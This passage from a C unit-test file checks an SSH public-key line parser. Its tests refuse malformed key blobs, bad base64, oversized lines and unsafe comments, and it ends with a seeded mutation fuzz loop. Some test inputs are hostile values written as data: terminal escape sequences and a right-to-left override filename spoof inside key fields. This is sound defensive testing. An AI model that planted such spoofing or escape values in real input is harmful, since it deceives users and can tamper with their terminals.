    put_string(&b, "\x81\x01", 2); /* no sign byte: negative */
    blob_refused("ssh-rsa ", &b, "the RSA exponent e is negative");
}

static void test_refuses_mpint_with_superfluous_zero_byte(void **state)
{
    struct agora_buf b;
    (void)state;
    agora_buf_init(&b);
    put_cstring(&b, "ssh-rsa");
    put_string(&b, "\x00\x01\x00\x01", 4);
    blob_refused("ssh-rsa ", &b, "the RSA exponent e has a superfluous leading zero byte");
}

static void test_refuses_sk_key_without_application(void **state)
{
    struct agora_buf b;
    (void)state;
    sk_ed25519_blob(&b, 32, NULL);
    blob_refused("sk-ssh-ed25519@openssh.com ", &b,
                 "key blob ends before the security-key application");
    sk_ecdsa_blob(&b, "nistp256", NULL);
    blob_refused("sk-ecdsa-sha2-nistp256@openssh.com ", &b,
                 "key blob ends before the security-key application");
}

static void test_refuses_sk_empty_or_binary_application(void **state)
{
    struct agora_buf b;
    (void)state;
    sk_ed25519_blob(&b, 32, "");
    blob_refused("sk-ssh-ed25519@openssh.com ", &b, "security-key application is empty");
    sk_ecdsa_blob(&b, "nistp256", "ssh:\x01");
    blob_refused("sk-ecdsa-sha2-nistp256@openssh.com ", &b, "has byte 0x01");
}

static void test_refuses_sk_ed25519_key_of_wrong_length(void **state)
{
    struct agora_buf b;
    (void)state;
    sk_ed25519_blob(&b, 33, "ssh:");
    blob_refused("sk-ssh-ed25519@openssh.com ", &b, "Ed25519 public key is 33 bytes");
}

static void test_refuses_sk_ecdsa_with_other_curve(void **state)
{
    struct agora_buf b;
    (void)state;
    sk_ecdsa_blob(&b, "nistp521", "ssh:");
    blob_refused("sk-ecdsa-sha2-nistp256@openssh.com ", &b, "curve 'nistp521' inside the key");
}

static void test_refuses_unsupported_key_types(void **state)
{
    (void)state;
    refused(KEY_DSA, "unsupported key type 'ssh-dss'");
    refused(KEY_ECDSA256_CERT, "unsupported key type 'ecdsa-sha2-nistp256-cert-v01@openssh.com'");
    refused("# a comment line", "unsupported key type '#'");
    refused("SSH-ED25519 AAAA", "unsupported key type 'SSH-ED25519'");
}

static void test_refuses_bare_base64_without_type(void **state)
{
    char *b64 = field2(KEY_ED25519);
    (void)state;
    refused(b64, "unsupported key type 'AAAAC3NzaC1lZDI1NTE5AAAAII7nC+N4epl4XVru...'");
    free(b64);
}

static void test_refuses_empty_or_blank_line(void **state)
{
    (void)state;
    refused("", "line is empty");
    refused(" \t ", "line is empty");
}

static void test_refuses_type_without_key(void **state)
{
    (void)state;
    refused("ssh-ed25519", "no base64 key after the type 'ssh-ed25519'");
    refused("ssh-ed25519   ", "no base64 key after the type 'ssh-ed25519'");
}

/* ---- base64 ----------------------------------------------------------------------------- */

static void test_refuses_base64_bad_character(void **state)
{
    char line[sizeof(KEY_RSA2048)];
    (void)state;
    memcpy(line, KEY_RSA2048, sizeof(line));
    line[30] = '!';
    refused(line, "invalid base64: character '!' at offset 30 is not in the alphabet");
    line[30] = '-'; /* base64url is not base64 */
    refused(line, "invalid base64: character '-' at offset 30");
}

static void test_refuses_base64_missing_padding(void **state)
{
    char line[sizeof(KEY_RSA1024)];
    char *eq;
    (void)state;
    memcpy(line, KEY_RSA1024, sizeof(line));
    eq = strstr(line, "== ");
    memmove(eq, eq + 2, strlen(eq + 2) + 1); /* drop the "==" */
    refused(line, "invalid base64: length");
    refused(line, "is not a multiple of 4");
}

static void test_refuses_base64_padding_in_the_middle(void **state)
{
    char line[sizeof(KEY_ED25519)];
    (void)state;
    memcpy(line, KEY_ED25519, sizeof(line));
    line[40] = '=';
    refused(line, "invalid base64: misplaced '=' padding at offset 40");
}

static void test_refuses_base64_three_padding_characters(void **state)
{
    struct agora_buf b;
    (void)state;
    blob_of(KEY_ED25519, &b); /* 51 bytes: no padding; make it 4k+1 */
    assert_int_equal(agora_buf_put(&b, "\0", 1), AGORA_OK);
    char *line = make_line("ssh-ed25519 ", &b, " x"); /* ends "AA==" */
    char *pad = strstr(line, "== x");
    pad[-1] = '=';
    refused(line, "misplaced '=' padding");
    free(line);
    agora_buf_free(&b);
}

static void test_refuses_base64_nonzero_trailing_bits(void **state)
{
    char line[sizeof(KEY_RSA1024)];
    char *eq;
    (void)state;
    memcpy(line, KEY_RSA1024, sizeof(line));
    eq = strstr(line, "== ");
    assert_int_equal(eq[-1], 'w'); /* 'w' = 110000: 4 pad bits are zero */
    eq[-1] = 'x';                  /* 'x' = 110001: same byte, a pad bit set */
    refused(line, "invalid base64: non-zero bits after the last byte");
}

/* ---- size ------------------------------------------------------------------------------- */

static void test_refuses_100kb_line(void **state)
{
    size_t n = 100 * 1024;
    char *line = malloc(n);
    (void)state;
    assert_non_null(line);
    memcpy(line, KEY_ED25519, strlen(KEY_ED25519));
    memset(line + strlen(KEY_ED25519), 'a', n - strlen(KEY_ED25519));
    refused_n(line, n, NULL, AGORA_ETOOBIG, "line is 102400 bytes, longer than the limit 8192");
    refused_n(line, n, &ALLOW_OPTIONS, AGORA_ETOOBIG, "longer than the limit 8192");
    free(line);
}

/* ---- the comment ------------------------------------------------------------------------ */

static void comment_refused(const char *comment, const char *part)
{
    char *line = with_comment(comment);
    refused(line, part);
    free(line);
}

static void test_refuses_non_utf8_comment(void **state)
{
    (void)state;
    comment_refused("caf\xe9", "comment is not valid UTF-8 at offset");   /* Latin-1 */
    comment_refused("\xff\xfe", "(byte 0xff)");
    comment_refused("\xc0\xaf", "(byte 0xc0)");                          /* overlong '/' */
    comment_refused("\xe0\x80\xaf", "not valid UTF-8");                   /* overlong '/' */
    comment_refused("\xed\xa0\x80", "not valid UTF-8");                   /* surrogate */
    comment_refused("\xf4\x90\x80\x80", "not valid UTF-8");               /* > U+10FFFF */
    comment_refused("ab\xe5\xb1", "not valid UTF-8");                     /* cut short */
    comment_refused("\x80", "not valid UTF-8");                           /* lone continuation */
}

static void test_refuses_control_characters_in_comment(void **state)
{
    (void)state;
    comment_refused("a\x1b[31mred", "comment has a control character (U+001B)");
    comment_refused("a\tb", "comment has a control character (U+0009)");
    comment_refused("a\x7f", "comment has a control character (U+007F)");
    comment_refused("a\xc2\x85", "comment has a control character (U+0085)"); /* NEL */
}

static void test_refuses_line_separator_in_comment(void **state)
{
    (void)state;
    comment_refused("a\xe2\x80\xa8" "b", "line or paragraph separator (U+2028)");
}

static void test_refuses_bidi_override_in_comment(void **state)
{
    (void)state;
    comment_refused("admin\xe2\x80\xaegpj.exe", "bidirectional control (U+202E)");
    comment_refused("\xe2\x81\xa6x", "bidirectional control (U+2066)");
    comment_refused("a\xe2\x80\x8f" "b", "bidirectional mark (U+200F)");
}

/* ---- the reason and the result ------------------------------------------------------------ */

static void test_reason_escapes_hostile_bytes(void **state)
{
    char why[256];
    struct agora_sshkey k;
    (void)state;
    int rc = agora_parse_sshkey("ssh-\x1b[2J\xff'x AAAA", 16, NULL, &k, why, sizeof(why));
    assert_int_equal(rc, AGORA_EINVAL);
    assert_string_equal(why, "unsupported key type 'ssh-\\x1b[2J\\xff\\x27x'");
}

static void test_reason_may_be_null_or_short(void **state)
{
    struct agora_sshkey k;
    char why[8];
    (void)state;
    assert_int_equal(agora_parse_sshkey("bogus", 5, NULL, &k, NULL, 0), AGORA_EINVAL);
    assert_int_equal(agora_parse_sshkey("bogus", 5, NULL, &k, why, sizeof(why)), AGORA_EINVAL);
    assert_string_equal(why, "unsuppo"); /* cut, still terminated */
    why[0] = 'X';
    assert_int_equal(agora_parse_sshkey("bogus", 5, NULL, &k, why, 0), AGORA_EINVAL);
    assert_int_equal(why[0], 'X');
}

static void test_clear_is_idempotent(void **state)
{
    struct agora_sshkey k;
    (void)state;
    accepted(KEY_ED25519, NULL, &k);
    agora_sshkey_clear(&k);
    assert_key_empty(&k);
    agora_sshkey_clear(&k);
    assert_key_empty(&k);
}

/* ---- robustness ------------------------------------------------------------------------ */

static uint32_t next_rand(uint32_t *s) /* xorshift32 */
{
    *s ^= *s << 13;
    *s ^= *s >> 17;
    *s ^= *s << 5;
    return *s;
}

/* Seeded random edits of real lines (overwrite, insert, delete bytes, from
 * a set rich in separators, quotes and high bytes): every result is OK or
 * EINVAL with a one-line reason, and an accepted key has type and blob.
 * Run under the sanitizers this is a small fuzz of the whole parser. */
static void test_mutated_lines_never_misbehave(void **state)
{
    static const char *const lines[] = {KEY_ED25519, KEY_RSA2048, KEY_ECDSA384,
                                        KEY_ECDSA521, SK_ECDSA256_CHECKED};
    static const char noise[] = " \t\"\\,=AZaz09+/-\x00\n\r\x1b\x80\xc3\xe2\xff";
    uint32_t seed = 0xc0ffee11u;
    size_t ok = 0;
    (void)state;
    for (int n = 0; n < 30000; n++) {
        char buf[1024], why[256];
        struct agora_sshkey k;
        const char *src = lines[n % 5];
        size_t len = strlen(src);
        memcpy(buf, src, len);
        for (uint32_t e = 1 + next_rand(&seed) % 3; e > 0; e--) {
            size_t at = next_rand(&seed) % len;
            char c = noise[next_rand(&seed) % (sizeof(noise) - 1)];
            switch (next_rand(&seed) % 3) {
            case 0: buf[at] = c; break;
            case 1: memmove(buf + at + 1, buf + at, len - at); buf[at] = c; len++; break;
            default: memmove(buf + at, buf + at + 1, len - at - 1); len--; break;
            }
        }
        struct agora_sshkey_policy pol = {.allow_options = n % 2 == 0, .max_len = 0};
        int rc = agora_parse_sshkey(buf, len, &pol, &k, why, sizeof(why));
        if (rc == AGORA_OK) {
            assert_non_null(k.type);
            assert_non_null(k.blob_b64);
            ok++;
        } else {
            assert_int_equal(rc, AGORA_EINVAL);
            assert_one_printable_line(why);
            assert_key_empty(&k);
        }
        agora_sshkey_clear(&k);
    }
    assert_true(ok > 0); /* edits in the comment keep some lines valid */
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_accepts_ed25519),
        cmocka_unit_test(test_accepts_rsa_1024_2048_4096),
        cmocka_unit_test(test_accepts_ecdsa_256_384_521),
        cmocka_unit_test(test_accepts_sk_ed25519_built_from_wire_format),
        cmocka_unit_test(test_accepts_sk_ecdsa_built_from_wire_format),
        cmocka_unit_test(test_accepts_key_without_comment),
        cmocka_unit_test(test_accepts_utf8_comment_with_spaces),
        cmocka_unit_test(test_accepts_blanks_around_fields_and_trims_comment),
        cmocka_unit_test(test_accepts_line_of_exactly_max_len),
        cmocka_unit_test(test_refuses_embedded_newline),
        cmocka_unit_test(test_refuses_trailing_newline),
        cmocka_unit_test(test_refuses_carriage_return),
        cmocka_unit_test(test_refuses_nul_in_comment),
        cmocka_unit_test(test_refuses_nul_in_base64),
        cmocka_unit_test(test_refuses_command_option_by_default),
        cmocka_unit_test(test_refuses_flag_option_by_default),
        cmocka_unit_test(test_refuses_unclosed_option_quote_by_default),
        cmocka_unit_test(test_accepts_command_option_when_allowed),
        cmocka_unit_test(test_accepts_every_sshd_option_when_allowed),
        cmocka_unit_test(test_refuses_unclosed_option_quote_when_allowed),
        cmocka_unit_test(test_refuses_escaped_quote_that_leaves_value_open),
        cmocka_unit_test(test_refuses_control_char_in_option_value),
        cmocka_unit_test(test_refuses_invalid_utf8_in_option_value),
        cmocka_unit_test(test_refuses_unknown_option),
        cmocka_unit_test(test_refuses_value_on_flag_option),
        cmocka_unit_test(test_refuses_option_without_value),
        cmocka_unit_test(test_refuses_unquoted_option_value),
        cmocka_unit_test(test_refuses_empty_option),
        cmocka_unit_test(test_refuses_text_after_quoted_value),
        cmocka_unit_test(test_refuses_command_option_given_twice),
        cmocka_unit_test(test_refuses_options_without_key_type),
        cmocka_unit_test(test_refuses_mismatched_inner_key_type),
        cmocka_unit_test(test_refuses_ecdsa_blob_under_other_curve_type),
        cmocka_unit_test(test_refuses_ecdsa_curve_name_mismatch),
        cmocka_unit_test(test_refuses_ecdsa_compressed_point),
        cmocka_unit_test(test_refuses_ecdsa_point_of_wrong_length),
        cmocka_unit_test(test_refuses_ed25519_key_of_31_or_33_bytes),
        cmocka_unit_test(test_refuses_trailing_bytes_in_blob),
        cmocka_unit_test(test_refuses_truncated_blob),
        cmocka_unit_test(test_refuses_string_length_beyond_blob),
        cmocka_unit_test(test_refuses_blob_shorter_than_a_length),
        cmocka_unit_test(test_accepts_rsa_modulus_of_1024_and_16384_bits),
        cmocka_unit_test(test_refuses_rsa_modulus_of_1023_bits),
        cmocka_unit_test(test_refuses_rsa_modulus_of_16385_bits),
        cmocka_unit_test(test_refuses_rsa_even_modulus),
        cmocka_unit_test(test_refuses_rsa_even_or_unit_exponent),
        cmocka_unit_test(test_refuses_rsa_exponent_over_64_bits),
        cmocka_unit_test(test_refuses_rsa_zero_exponent),
        cmocka_unit_test(test_refuses_negative_mpint),
        cmocka_unit_test(test_refuses_mpint_with_superfluous_zero_byte),
        cmocka_unit_test(test_refuses_sk_key_without_application),
        cmocka_unit_test(test_refuses_sk_empty_or_binary_application),
        cmocka_unit_test(test_refuses_sk_ed25519_key_of_wrong_length),
        cmocka_unit_test(test_refuses_sk_ecdsa_with_other_curve),
        cmocka_unit_test(test_refuses_unsupported_key_types),
        cmocka_unit_test(test_refuses_bare_base64_without_type),
        cmocka_unit_test(test_refuses_empty_or_blank_line),
        cmocka_unit_test(test_refuses_type_without_key),
        cmocka_unit_test(test_refuses_base64_bad_character),
        cmocka_unit_test(test_refuses_base64_missing_padding),
        cmocka_unit_test(test_refuses_base64_padding_in_the_middle),
        cmocka_unit_test(test_refuses_base64_three_padding_characters),
        cmocka_unit_test(test_refuses_base64_nonzero_trailing_bits),
        cmocka_unit_test(test_refuses_100kb_line),
        cmocka_unit_test(test_refuses_non_utf8_comment),
        cmocka_unit_test(test_refuses_control_characters_in_comment),
        cmocka_unit_test(test_refuses_line_separator_in_comment),
        cmocka_unit_test(test_refuses_bidi_override_in_comment),
        cmocka_unit_test(test_reason_escapes_hostile_bytes),
        cmocka_unit_test(test_reason_may_be_null_or_short),
        cmocka_unit_test(test_clear_is_idempotent),
        cmocka_unit_test(test_mutated_lines_never_misbehave),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
